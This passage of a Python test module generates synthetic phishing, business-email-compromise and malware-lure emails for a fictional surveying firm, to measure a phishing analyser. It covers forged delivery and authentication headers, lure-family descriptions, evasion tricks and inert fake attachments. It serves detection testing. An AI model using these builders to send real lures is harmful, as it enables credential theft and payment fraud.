"""Credential phishing and payment fraud of 2023-2026 as the MX of a small UK surveying firm
receives it (spam, phish, BEC).

The receiving organisation is Castellan Surveying Ltd (``castellan-survey.com``); every message is
a whole RFC 5322 message as it sits in a staff mailbox after ``mx1.castellan-survey.com``
(192.0.2.25) has added its ``Received`` and ``Authentication-Results`` headers.
``messages(split, seed)`` returns ``(name, bytes)`` pairs; only the ``test`` split exists (``dev``
is empty). Every message is malicious: the set measures how often a phishing analyser catches real
lures, and can serve as the positive class for training.

Families: Microsoft 365 / Outlook credential lures (password expiry, quota, unusual sign-in,
quarantine, pending messages, MFA re-enrolment), voicemail / fax / missed-call notices with HTML
attachments, document-share lures (DocuSign, Adobe, SharePoint/OneDrive, Dropbox, WeTransfer) that
land on pages hosted on Google Forms, Microsoft Forms, Canva, Notion, IPFS, Cloudflare Pages/Workers,
Firebase and similar, webmail deactivation notices in the recipient's own domain name, parcel and
postal fees, bank and card alerts, subscription billing (PayPal, Apple, Netflix, Amazon, Spotify,
Disney+), tax and government (HMRC, IRS, CRA, ATO, DVLA, tolls), crypto wallets and seed-phrase
harvesting, social-media account lures, invoice / purchase-order malware and credential lures
(PDF with link, HTML attachments, HTML smuggling, ZIP/ISO/IMG, password-protected archives, double
extensions), BEC (gift cards, wire transfer, payroll diversion, vendor bank change from a look-alike
domain, reply-chain hijack), thread hijacking from compromised mailboxes (links, script archives,
HTML attachments), QR-code phishing, HR/payroll lures, domain/hosting lures, callback
("refund line") scams, abuse of genuine services (Google Forms, PayPal invoices, Dropbox, DocuSign
envelopes sent from a real account with attacker text), and lures in Spanish, Portuguese, German,
French, Italian and Dutch.

Sender infrastructure follows reality: compromised small-business, university and non-profit
mailboxes that pass SPF/DKIM for their own domain, throwaway and look-alike registrations that also
pass for themselves, spoofed brand domains that fail DMARC (p=reject/quarantine/none), free mail
that passes for the provider, abused ESP accounts, softfail/none/temperror results. Links use
display/href mismatches, shorteners, open redirects, IP literals, punycode, ``@`` userinfo tricks
and the victim's address in the query or fragment; bodies use zero-width characters, homoglyphs and
text split by tags or hidden spans. The set was written blind to the analyser.

All IP addresses are from the documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24,
2001:db8::/32), including those written for real providers' relays. QR images are QR-like PNGs
(finder patterns and noise); they do not decode. Attachments are inert stand-ins (an ``.exe`` is a
few bytes after ``MZ``). Every person, company, phone number and URL path is invented; well-known
brands are named as the scams name them, and mail only comes from a brand's real domain when a
genuine service (Google Forms, Dropbox, DocuSign, PayPal) carried the attacker's text.

``python -m tests.support.en_lures [--seed N] [--out DIR]`` prints the counts per family and
writes ``DIR/*.eml``.
"""

# ruff: noqa: E501
from __future__ import annotations

import argparse
import base64
import hashlib
import io
import quopri
import random
import string
import struct
import urllib.parse
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from email.utils import format_datetime
from pathlib import Path

Header = tuple[str, str]
Ent = tuple[list[Header], bytes]
Builder = Callable[[random.Random, int], bytes]

ORG = "Castellan Surveying Ltd"
DOM = "castellan-survey.com"
DOMBASE = "castellan-survey"
MX = "mx1.castellan-survey.com"
MX_IP = "192.0.2.25"
ORG_PHONE = "+44 1632 960418"
ORG_ADDR = "Unit 4, Tanner's Yard, Harrogate HG1 5QF"

ALNUM = string.ascii_letters + string.digits
LOWER = string.ascii_lowercase + string.digits
ALPHA = string.ascii_lowercase
HEX = "0123456789abcdef"
UHEX = "0123456789ABCDEF"
URLSAFE = ALNUM + "-_"


@dataclass(frozen=True)
class Person:
    first: str
    last: str
    title: str

    @property
    def name(self) -> str:
        return f"{self.first} {self.last}"

    @property
    def email(self) -> str:
        return f"{self.first.lower()}.{self.last.lower()}@{DOM}"

    @property
    def local(self) -> str:
        return f"{self.first.lower()}.{self.last.lower()}"


STAFF = [
    Person("Gareth", "Pennington", "Managing Director"),
    Person("Fiona", "Ashworth", "Finance Manager"),
    Person("Imran", "Qureshi", "Accounts Assistant"),
    Person("Helen", "Blackwood", "Office Manager"),
    Person("Tomasz", "Wojcik", "Senior Land Surveyor"),
    Person("Rhiannon", "Price", "Geospatial Analyst"),
    Person("Callum", "Drysdale", "Project Surveyor"),
    Person("Siobhan", "Keane", "HR & Payroll Officer"),
    Person("Owen", "Hartley", "IT Coordinator"),
    Person("Priyanka", "Shah", "Building Surveyor"),
    Person("Martin", "Lowther", "Business Development Lead"),
]
MD, FINANCE, ACCOUNTS, OFFICE, SURVEYOR, GIS, PROJECT, HRP, IT, BSURV, BD = STAFF
SHARED = [f"info@{DOM}", f"accounts@{DOM}", f"enquiries@{DOM}", f"admin@{DOM}", f"invoices@{DOM}"]

FIRST = [
    "Daniel",
    "Sophie",
    "Mark",
    "Laura",
    "James",
    "Emma",
    "Steven",
    "Claire",
    "Michael",
    "Natalie",
    "Robert",
    "Jessica",
    "David",
    "Amanda",
    "Kevin",
    "Lisa",
    "Brian",
    "Angela",
    "Patrick",
    "Monica",
    "George",
    "Olga",
    "Samuel",
    "Tina",
    "Victor",
    "Grace",
    "Harold",
    "Nadia",
]
LAST = [
    "Holloway",
    "Brennan",
    "Whitcombe",
    "Marsh",
    "Kettering",
    "Dobson",
    "Fairley",
    "Ramsden",
    "Okoro",
    "Lindgren",
    "Castell",
    "Moreau",
    "Bianchi",
    "Schneider",
    "Van Dijk",
    "Ferreira",
    "Navarro",
    "Hughes",
    "Pryce",
    "Sutcliffe",
    "Garrity",
    "Albright",
    "Tennant",
    "Voss",
]

# compromised legitimate senders: (organisation, domain, kind, sending host style)
COMPROMISED = [
    ("Millbrook Joinery", "millbrookjoinery.co.uk", "smallbiz", "cpanel"),
    ("Hollins Veterinary Practice", "hollinsvets.co.uk", "smallbiz", "m365"),
    ("Redfern Dental Care", "redferndental.com", "smallbiz", "cpanel"),
    ("Kestrel Valley Trust", "kestrelvalleytrust.org", "nonprofit", "google"),
    ("St Aldric Food Bank", "staldricfoodbank.org.uk", "nonprofit", "cpanel"),
    ("Universidad Técnica de Arvena", "utarvena.edu.mx", "university", "m365"),
    ("Northmere University", "northmere.ac.uk", "university", "m365"),
    ("Lakeside Community College", "lakesidecc.edu", "university", "google"),
    ("Pinewood Roofing Supplies", "pinewoodroofing.com", "smallbiz", "google"),
    ("Tessaro Ceramiche", "tessaroceramiche.it", "smallbiz", "cpanel"),
    ("Bakkerij Van Loon", "bakkerijvanloon.nl", "smallbiz", "cpanel"),
    ("Grupo Ardena Logística", "ardenalogistica.com.br", "smallbiz", "cpanel"),
    ("Oakhurst Parish Council", "oakhurstparish.org.uk", "nonprofit", "m365"),
    ("Brightwater Physio", "brightwaterphysio.com.au", "smallbiz", "google"),
    ("Hammond & Pike Solicitors", "hammondpike-law.co.uk", "smallbiz", "m365"),
    ("Schreinerei Albrecht", "schreinerei-albrecht.de", "smallbiz", "cpanel"),
    ("Cedar Ridge Baptist Church", "cedarridgebaptist.org", "nonprofit", "cpanel"),
    ("Marlowe Estate Agents", "marlowe-estates.co.uk", "smallbiz", "m365"),
]
THROWAWAY_TLDS = [
    "xyz",
    "top",
    "online",
    "site",
    "click",
    "info",
    "shop",
    "live",
    "icu",
    "cfd",
    "sbs",
    "buzz",
    "rest",
    "bond",
    "lat",
    "store",
    "cyou",
    "quest",
]
FREEMAIL = [
    ("gmail.com", "gmail.com", "20230601"),
    ("outlook.com", "outlook.com", "selector1"),
    ("hotmail.com", "hotmail.com", "selector1"),
    ("yahoo.com", "yahoo.com", "s2048"),
    ("aol.com", "aol.com", "a2048"),
    ("icloud.com", "icloud.com", "1a1hai"),
    ("mail.ru", "mail.ru", "mail4"),
    ("gmx.com", "gmx.com", "s1089575"),
    ("proton.me", "proton.me", "protonmail3"),
    ("zoho.com", "zoho.com", "zoho"),
]

ZONES = [
    ("+0000", 0),
    ("+0100", 60),
    ("-0500", -300),
    ("-0400", -240),
    ("-0700", -420),
    ("+0300", 180),
    ("+0530", 330),
    ("+0800", 480),
    ("+0200", 120),
    ("-0300", -180),
    ("+0700", 420),
    ("+0900", 540),
    ("+0100", 60),
    ("+0000", 0),
]


def rs(r: random.Random, n: int, alphabet: str = ALNUM) -> str:
    return "".join(r.choice(alphabet) for _ in range(n))


def digits(r: random.Random, n: int) -> str:
    return str(r.randint(1, 9)) + "".join(r.choice("0123456789") for _ in range(n - 1))


def pname(r: random.Random) -> tuple[str, str]:
    return r.choice(FIRST), r.choice(LAST)


def pick(r: random.Random, *opts: str) -> str:
    return r.choice(opts)


def rdate(r: random.Random, zone: str | None = None) -> datetime:
    year = r.choice((2023, 2024, 2025, 2026))
    month = r.randint(1, 11 if year == 2026 else 12)
    if zone is None:
        _, mins = r.choice(ZONES)
    else:
        mins = (int(zone[1:3]) * 60 + int(zone[3:])) * (-1 if zone[0] == "-" else 1)
    off = timezone(timedelta(minutes=mins))
    return datetime(
        year, month, r.randint(1, 28), r.randint(0, 23), r.randint(0, 59), r.randint(0, 59), tzinfo=off
    )


def hdate(dt: datetime) -> str:
    return format_datetime(dt)


def ldate(dt: datetime) -> str:
    return f"{dt.day} {dt:%B} {dt.year}"


def usdate(dt: datetime) -> str:
    return f"{dt:%B} {dt.day}, {dt.year}"


def sdate(dt: datetime) -> str:
    return f"{dt.day:02d}/{dt.month:02d}/{dt.year}"


def doc_ip(r: random.Random) -> str:
    return f"{r.choice(['192.0.2', '198.51.100', '203.0.113'])}.{r.randint(2, 254)}"


def doc_ip6(r: random.Random) -> str:
    return f"2001:db8:{rs(r, 4, HEX).lstrip('0') or '1'}:{rs(r, 3, HEX)}::{rs(r, 2, HEX)}"


def throwaway(r: random.Random, stem: str = "") -> str:
    if not stem or r.random() < 0.4:
        stem = rs(r, r.randint(5, 11), ALPHA) if r.random() < 0.6 else rs(r, 4, ALPHA) + digits(r, 3)
    return f"{stem}.{r.choice(THROWAWAY_TLDS)}"


def victim(r: random.Random, pool: Sequence[Person] | None = None) -> Person:
    return r.choice(list(pool) if pool else STAFF)


# --------------------------------------------------------------------------------------------
# MIME construction


def ew(s: str, cs: str = "utf-8", enc: str = "B") -> str:
    """RFC 2047 encoded word(s) if the text is not ASCII."""
    try:
        s.encode("ascii")
        return s
    except UnicodeEncodeError:
        pass
    out, cur = [], ""
    for ch in s:
        if len((cur + ch).encode(cs, "replace")) > 40:
            out.append(cur)
            cur = ch
        else:
            cur += ch
    out.append(cur)
    label = cs.upper()
    if enc == "Q":
        words = []
        for w in out:
            q = "".join(
                c
                if (c.isalnum() and ord(c) < 128)
                else ("_" if c == " " else "".join(f"={b:02X}" for b in c.encode(cs, "replace")))
                for c in w
            )
            words.append(f"=?{label}?Q?{q}?=")
        return "\n ".join(words)
    return "\n ".join(f"=?{label}?B?{base64.b64encode(w.encode(cs, 'replace')).decode()}?=" for w in out)


def addr(name: str, email: str, cs: str = "utf-8") -> str:
    if not name:
        return email
    enc = ew(name, cs)
    if enc != name:
        return f"{enc} <{email}>"
    if any(c in name for c in ',.()<>@:;"[]'):
        n = name.replace('"', '\\"')
        return f'"{n}" <{email}>'
    return f"{name} <{email}>"


def leaf(ctype: str, text: str, cs: str = "utf-8", cte: str = "quoted-printable", params: str = "") -> Ent:
    raw = text.replace("\r\n", "\n").encode(cs, "replace" if cs != "utf-8" else "strict")
    if cte == "quoted-printable":
        body = quopri.encodestring(raw)
    elif cte == "base64":
        body = base64.encodebytes(raw)
    else:
        body = raw
    if not body.endswith(b"\n"):
        body += b"\n"
    return [("Content-Type", f'{ctype}; charset="{cs}"{params}'), ("Content-Transfer-Encoding", cte)], body


def plain(text: str, cs: str = "utf-8", cte: str = "quoted-printable") -> Ent:
    return leaf("text/plain", text, cs, cte)


def html(text: str, cs: str = "utf-8", cte: str = "quoted-printable") -> Ent:
    return leaf("text/html", text, cs, cte)


def boundary(r: random.Random) -> str:
    style = r.randrange(5)
    if style == 0:
        return f"_000_{rs(r, 40, UHEX)}namp_"
    if style == 1:
        return "000000000000" + rs(r, 16, HEX)
    if style == 2:
        return f"----=_Part_{r.randint(100000, 999999)}_{r.randint(100000000, 999999999)}.{digits(r, 13)}"
    if style == 3:
        return f"----=_NextPart_000_{rs(r, 4, UHEX)}_{rs(r, 8, UHEX)}.{rs(r, 8, UHEX)}"
    return f"=_{rs(r, 28, HEX)}"


def multi(r: random.Random, sub: str, parts: Sequence[Ent], params: str = "") -> Ent:
    b = boundary(r)
    chunks = [b"This is a multi-part message in MIME format.\n"] if r.random() < 0.4 else []
    for hs, body in parts:
        chunks.append(f"\n--{b}\n".encode())
        chunks.append(hbytes(hs) + b"\n" + body)
    chunks.append(f"\n--{b}--\n".encode())
    return [("Content-Type", f'multipart/{sub}; boundary="{b}"{params}')], b"".join(chunks)


def alt(r: random.Random, text: str, htm: str, cs: str = "utf-8", cte: str = "quoted-printable") -> Ent:
    return multi(r, "alternative", [plain(text, cs, cte), html(htm, cs, cte)])


def attach(filename: str, ctype: str, data: bytes, inline: bool = False, cid: str = "") -> Ent:
    disp = "inline" if inline else "attachment"
    try:
        filename.encode("ascii")
        fn_ct, fn_cd = f'name="{filename}"', f'filename="{filename}"'
    except UnicodeEncodeError:
        fn_ct = f'name="{ew(filename)}"'.replace("\n ", "")
        fn_cd = f"filename*=utf-8''{urllib.parse.quote(filename)}"
    hs = [
        ("Content-Type", f"{ctype}; {fn_ct}"),
        ("Content-Disposition", f"{disp}; {fn_cd}"),
        ("Content-Transfer-Encoding", "base64"),
    ]
    if cid:
        hs.append(("Content-ID", f"<{cid}>"))
    return hs, base64.encodebytes(data)


def hbytes(hs: Sequence[Header]) -> bytes:
    return b"".join(f"{k}: {v}\n".encode("ascii") for k, v in hs)


def body_choice(r: random.Random, text: str, htm: str, i: int, cs: str = "utf-8") -> Ent:
    """text/plain only, text/html only or multipart/alternative, with a varied transfer encoding."""
    cte = r.choice(["quoted-printable", "base64", "quoted-printable", "8bit" if cs != "us-ascii" else "7bit"])
    try:
        text.encode("ascii")
        htm.encode("ascii")
        if cte == "8bit":
            cte = "7bit"
    except UnicodeEncodeError:
        pass
    k = i % 3
    if k == 0:
        return alt(r, text, htm, cs, cte)
    if k == 1:
        return html(htm, cs, cte)
    x = r.random()
    return alt(r, text, htm, cs, cte) if x < 0.4 else html(htm, cs, cte) if x < 0.7 else plain(text, cs, cte)


# --------------------------------------------------------------------------------------------
# attachments


def fake_pdf(
    r: random.Random, title: str, lines: Sequence[str], link: str = "", link_text: str = ""
) -> bytes:
    text = " ".join(f"({ln.replace('(', '[').replace(')', ']')}) Tj T*" for ln in lines)
    extra = f" T* 0 0 1 rg ({link_text or 'Click here to view the document'}) Tj" if link else ""
    stream = f"BT /F1 12 Tf 16 TL 60 740 Td ({title}) Tj T* T* {text}{extra} ET".encode("latin-1", "replace")
    annots = b" /Annots [6 0 R]" if link else b""
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >>" + annots + b" >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    if link:
        objs.append(
            b"<< /Type /Annot /Subtype /Link /Rect [40 200 572 760] /Border [0 0 0] /A << /S /URI /URI ("
            + link.encode("latin-1", "replace")
            + b") >> >>"
        )
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for n, o in enumerate(objs, 1):
        offs.append(len(out))
        out += f"{n} 0 obj\n".encode() + o + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode()
    for o in offs:
        out += f"{o:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R /ID [<{rs(r, 32, HEX)}><{rs(r, 32, HEX)}>] >>\n".encode()
    out += f"startxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def fake_zip(members: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in members.items():
            zi = zipfile.ZipInfo(name, date_time=(2025, 3, 14, 9, 12, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, content)
    return buf.getvalue()


def encrypted_zip(r: random.Random, names: Sequence[str]) -> bytes:
    """A ZIP whose members carry the traditional-encryption flag (content is random bytes)."""
    out = bytearray()
    central = bytearray()
    for name in names:
        nb = name.encode()
        data = r.randbytes(12 + r.randint(400, 1600))
        crc = r.getrandbits(32)
        off = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            0x0009,
            8,
            0x4A21,
            0x5A6E,
            crc,
            len(data),
            len(data) * 3,
            len(nb),
            0,
        )
        out += nb + data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            0x031E,
            20,
            0x0009,
            8,
            0x4A21,
            0x5A6E,
            crc,
            len(data),
            len(data) * 3,
            len(nb),
            0,
            0,
            0,
            0,
            0x81A40000,
            off,
        )
        central += nb
    cd_off = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(names), len(names), len(central), cd_off, 0)
    return bytes(out)


def fake_exe(r: random.Random) -> bytes:
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
        + b"\x00" * 44
        + b"\x80\x00\x00\x00"
        + b"This program cannot be run in DOS mode.\r\r\n$"
        + r.randbytes(64)
    )


def fake_iso(r: random.Random, member: str) -> bytes:
    pvd = bytearray(2048)
    pvd[0:6] = b"\x01CD001"
    pvd[40:72] = member.split(".")[0].upper()[:32].ljust(32).encode()
    return (
        bytes(32768)
        + bytes(pvd)
        + b"\xffCD001\x01"
        + bytes(2041)
        + member.upper().encode()
        + r.randbytes(200)
    )


def lnk_bytes(r: random.Random, cmd: str) -> bytes:
    return (
        b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"
        + cmd.encode("utf-16-le")
        + r.randbytes(32)
    )


def png(width: int, height: int, pixels: Sequence[Sequence[int]]) -> bytes:
    raw = b"".join(b"\x00" + bytes(255 if v == 0 else 0 for v in row) for row in pixels)

    def chunk(t: bytes, d: bytes) -> bytes:
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw, 9))
        + chunk(b"IEND", b"")
    )


def qr_like_png(r: random.Random, modules: int = 29, scale: int = 6) -> bytes:
    """A QR-shaped image (finder patterns, timing lines, noise); it does not decode."""
    m = [[r.randint(0, 1) for _ in range(modules)] for _ in range(modules)]

    def finder(x0: int, y0: int) -> None:
        for y in range(-1, 8):
            for x in range(-1, 8):
                xx, yy = x0 + x, y0 + y
                if 0 <= xx < modules and 0 <= yy < modules:
                    on = (
                        0 <= x <= 6
                        and 0 <= y <= 6
                        and (x in (0, 6) or y in (0, 6) or (2 <= x <= 4 and 2 <= y <= 4))
                    )
                    m[yy][xx] = 1 if on else 0

    finder(0, 0)
    finder(modules - 7, 0)
    finder(0, modules - 7)
    for k in range(8, modules - 8):
        m[6][k] = m[k][6] = 1 - k % 2
    quiet = 4
    size = (modules + 2 * quiet) * scale
    rows = []
    for y in range(size):
        my = y // scale - quiet
        row = []
        for x in range(size):
            mx = x // scale - quiet
            row.append(m[my][mx] if 0 <= mx < modules and 0 <= my < modules else 0)
        rows.append(row)
    return png(size, size, rows)


PDF = "application/pdf"
ZIP = "application/zip"
OCTET = "application/octet-stream"
HTM = "text/html"


# --------------------------------------------------------------------------------------------
# routes: how a message reached mx1, and what mx1 recorded


@dataclass
class Route:
    envelope: str
    helo: str
    ip: str
    from_dom: str
    signers: list[tuple[str, str, str]] = field(default_factory=list)
    spf: str = "pass"
    dmarc: str = "pass"
    policy: str = "none"
    rdns: str = ""
    hops: list[str] = field(default_factory=list)
    extra: list[Header] = field(default_factory=list)
    tls: bool = True


def fold_b64(s: str, first: int = 60, width: int = 70) -> str:
    parts = [s[:first]] + [s[i : i + width] for i in range(first, len(s), width)]
    return "\n\t ".join(parts)


def spf_text(res: str, mailfrom: str, ip: str) -> str:
    dom = mailfrom.split("@")[-1]
    if res == "pass":
        why = f"domain of {mailfrom} designates {ip} as permitted sender"
    elif res == "softfail":
        why = f"domain of transitioning {mailfrom} does not designate {ip} as permitted sender"
    elif res == "fail":
        why = f"domain of {mailfrom} does not designate {ip} as permitted sender"
    elif res == "neutral":
        why = f"{ip} is neither permitted nor denied by domain of {mailfrom}"
    elif res == "temperror":
        why = f"DNS timeout looking up {dom}"
    elif res == "permerror":
        why = f"too many DNS lookups in SPF record of {dom}"
    else:
        why = f"domain of {mailfrom} does not designate permitted sender hosts"
    return f"spf={res} ({MX}: {why}) smtp.mailfrom={mailfrom}"


def qid(r: random.Random) -> str:
    return f"4{rs(r, 1, 'PQRSTVWXYZ')}{rs(r, 1, 'bcdfghjklmn')}{digits(r, 1)}{rs(r, 1, 'KLMNPQRSTVWXYZ')}{rs(r, 6, 'bcdfghjklmnpqrstvwxyz0123456789')}z"


def deliver(
    r: random.Random, rt: Route, rcpt: str, dt: datetime, headers: Sequence[Header], ent: Ent
) -> bytes:
    ehs, body = ent
    hlist = (
        "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"
        if r.random() < 0.7
        else "from:subject:date:message-id:to:mime-version:content-type:reply-to"
    )
    sigs: list[Header] = []
    results: list[str] = []
    glitch = r.random()
    if glitch < 0.03:
        rt.spf = "temperror"
    elif glitch < 0.05 and rt.spf in ("pass", "neutral"):
        rt.spf = "permerror"
    elif glitch < 0.08 and rt.signers:
        d0, s0, _ = rt.signers[0]
        rt.signers = [(d0, s0, "temperror"), *rt.signers[1:]]
        if rt.dmarc == "pass" and d0 == rt.from_dom and rt.spf != "pass":
            rt.dmarc = "temperror"
    for d, s, res in rt.signers:
        bh = base64.b64encode(hashlib.sha256(body.replace(b"\n", b"\r\n")).digest()).decode()
        b = base64.b64encode(r.randbytes(256 if r.random() < 0.8 else 128)).decode()
        t = int(dt.timestamp()) - r.randint(1, 40)
        sigs.append(
            (
                "DKIM-Signature",
                f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n\ts={s}; t={t};\n\th={hlist};\n\tbh={bh};\n\tb={fold_b64(b)}",
            )
        )
        if res == "fail":
            why = " (signature verification failed)"
        elif res == "temperror":
            why = " (DNS error retrieving key)"
        elif res == "permerror":
            why = " (no key for signature)"
        else:
            why = f" ({2048 if len(b) > 200 else 1024}-bit key; unprotected)"
        results.append(f"dkim={res}{why} header.d={d} header.i=@{d} header.s={s} header.b={b[:8]}")
    if not results:
        results.append("dkim=none (message not signed)")
    if rt.dmarc == "none":
        dmarc = (
            f"dmarc=none (p=none dis=none) header.from={rt.from_dom}"
            if rt.policy == "none"
            else f"dmarc=none header.from={rt.from_dom}"
        )
    elif rt.dmarc in ("temperror", "permerror"):
        dmarc = f"dmarc={rt.dmarc} header.from={rt.from_dom}"
    else:
        dis = (
            "none"
            if rt.dmarc == "pass" or rt.policy == "none"
            else ("quarantine" if rt.policy in ("reject", "quarantine") else "none")
        )
        dmarc = f"dmarc={rt.dmarc} (p={rt.policy} dis={dis}) header.from={rt.from_dom}"
    auth = ";\n\t".join(
        [MX, spf_text(rt.spf, rt.envelope or f"postmaster@{rt.helo}", rt.ip), *results, dmarc]
    )
    arrived = dt + timedelta(seconds=r.randint(2, 90))
    local = arrived.astimezone(timezone(timedelta(hours=1 if 3 < arrived.month < 11 else 0)))
    rdns = rt.rdns or rt.helo
    tls = (
        "\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n\t(No client certificate requested)"
        if rt.tls
        else ""
    )
    received = f"from {rt.helo} ({rdns} [{rt.ip}]){tls}\n\tby {MX} (Postfix) with {'ESMTPS' if rt.tls else 'ESMTP'} id {qid(r)}\n\tfor <{rcpt}>; {hdate(local)}"
    top: list[Header] = [
        ("Return-Path", f"<{rt.envelope}>"),
        ("Delivered-To", rcpt),
        ("Authentication-Results", auth),
        ("Received", received),
    ]
    when = hdate(dt + timedelta(seconds=r.randint(0, 3)))
    top += [("Received", h.replace("{when}", when)) for h in rt.hops]
    top += sigs
    out = list(headers) + rt.extra
    if not any(k.lower() == "mime-version" for k, _ in out):
        out.append(("MIME-Version", "1.0"))
    data = hbytes(top) + hbytes(out) + hbytes(ehs) + b"\n" + body
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


HOSTERS = [
    "hostinger.com",
    "secureserver.net",
    "bluehost.com",
    "hostgator.com",
    "ovh.net",
    "ionos.co.uk",
    "siteground.net",
    "a2hosting.com",
    "namecheaphosting.com",
    "contabo.net",
]


def _m365_hop(r: random.Random) -> str:
    host = f"{rs(r, 2, UHEX)}{r.randint(1, 9)}PR{r.randint(10, 19)}MB{r.randint(1000, 9999)}.{r.choice(['eurprd0', 'namprd0', 'gbrprd0', 'apcprd0'])}{r.randint(1, 9)}.prod.outlook.com"
    return f"from {host} ({doc_ip6(r)})\n\tby {host} ({doc_ip6(r)}) with Microsoft SMTP Server\n\t(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.{r.randint(7000, 9300)}.{r.randint(10, 40)};\n\t{{when}}"


def r_compromised(r: random.Random, org: tuple[str, str, str, str], local: str) -> Route:
    _, dom, _, style = org
    sender = f"{local}@{dom}"
    if style == "m365":
        helo = f"{r.choice(['EUR05', 'EUR03', 'GBR01', 'NAM12', 'NAM04', 'LO2P265'])}-{r.choice(['AM6', 'DB8', 'VI1', 'CWX', 'BN8'])}-obe.outbound.protection.outlook.com"
        rt = Route(
            sender,
            helo,
            doc_ip(r),
            dom,
            [
                (dom, "selector1", "pass"),
                (f"{dom.split('.')[0]}.onmicrosoft.com", "selector1-" + dom.replace(".", "-"), "pass"),
            ],
            "pass",
            "pass",
            r.choice(["none", "quarantine"]),
        )
        rt.rdns = f"mail-{helo.split('-')[1].lower()}eur0{r.randint(1, 5)}on2{r.randint(100, 139)}.outbound.protection.outlook.com"
        rt.hops = [_m365_hop(r)]
        return rt
    if style == "google":
        n = r.randint(170, 235)
        rt = Route(
            sender,
            f"mail-{r.choice(['yw1', 'qk1', 'pl1', 'oi1', 'ej1', 'wr1'])}-f{n}.google.com",
            doc_ip(r),
            dom,
            [(dom, "google", "pass")],
            "pass",
            "pass" if r.random() < 0.7 else "none",
            "none",
        )
        rt.hops = [
            f"by 2002:a05:{rs(r, 4, HEX)}:{rs(r, 4, HEX)}:b0:{rs(r, 3, HEX)}:{rs(r, 4, HEX)} with SMTP id {rs(r, 12, LOWER)}csp{digits(r, 7)};\n\t{{when}}"
        ]
        return rt
    hoster = r.choice(HOSTERS)
    helo = r.choice(
        [
            f"server{r.randint(10, 999)}.{hoster}",
            f"{rs(r, 3, ALPHA)}{r.randint(1, 99)}.{hoster}",
            f"mail.{dom}",
        ]
    )
    has_dmarc = r.random() < 0.5
    rt = Route(
        sender,
        helo,
        doc_ip(r),
        dom,
        [(dom, "default", "pass")] if r.random() < 0.8 else [],
        "pass" if r.random() < 0.85 else "neutral",
        "pass" if has_dmarc else "none",
        "none" if not has_dmarc else r.choice(["none", "quarantine"]),
    )
    if not rt.signers and rt.spf != "pass":
        rt.dmarc = "fail" if has_dmarc else "none"
    rt.hops = [
        f"from [{doc_ip(r)}] (port={r.choice([587, 465, 51322, 61044])} helo=[{r.choice(['127.0.0.1', '192.168.1.' + str(r.randint(2, 200)), 'WIN-' + rs(r, 11, UHEX)])}])\n\tby {helo} with esmtpsa (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.{r.randint(95, 98)}.{r.randint(0, 2)})\n\t(envelope-from <{sender}>)\n\tid 1{rs(r, 5, ALNUM)}-{rs(r, 7, ALNUM)}-{rs(r, 2, ALNUM)};\n\t{{when}}"
    ]
    rt.extra = (
        [
            ("X-AntiAbuse", "This header was added to track abuse, please include it with any abuse report"),
            ("X-AntiAbuse", f"Primary Hostname - {helo}"),
            ("X-Authenticated-Sender", f"{helo}: {sender}"),
        ]
        if r.random() < 0.5
        else []
    )
    return rt


def r_throwaway(r: random.Random, dom: str, local: str = "", dkim: bool | None = None) -> Route:
    local = local or r.choice(
        [
            "info",
            "support",
            "noreply",
            "no-reply",
            "service",
            "admin",
            "notice",
            "billing",
            "contact",
            rs(r, 6, ALPHA),
        ]
    )
    sender = f"{local}@{dom}"
    dkim = r.random() < 0.7 if dkim is None else dkim
    helo = r.choice(
        [
            f"mail.{dom}",
            f"vps{r.randint(1000, 99999)}.{r.choice(['contaboserver.net', 'hostwindsdns.com', 'vultrusercontent.com', 'your-server.de', 'hosted-by-ovh.net'])}",
            f"{dom}",
            f"srv{digits(r, 6)}.hstgr.cloud",
        ]
    )
    pol = r.choice(["none", "none", "quarantine", ""])
    rt = Route(
        sender,
        helo,
        doc_ip(r),
        dom,
        [(dom, r.choice(["default", "mail", "dkim", "s1", "x"]), "pass")] if dkim else [],
        r.choice(["pass", "pass", "pass", "none", "softfail"]),
        "pass",
        pol or "none",
    )
    if not pol:
        rt.dmarc = "none"
    elif rt.spf != "pass" and not dkim:
        rt.dmarc = "fail"
    rt.tls = r.random() < 0.8
    if r.random() < 0.5:
        rt.extra = [
            (
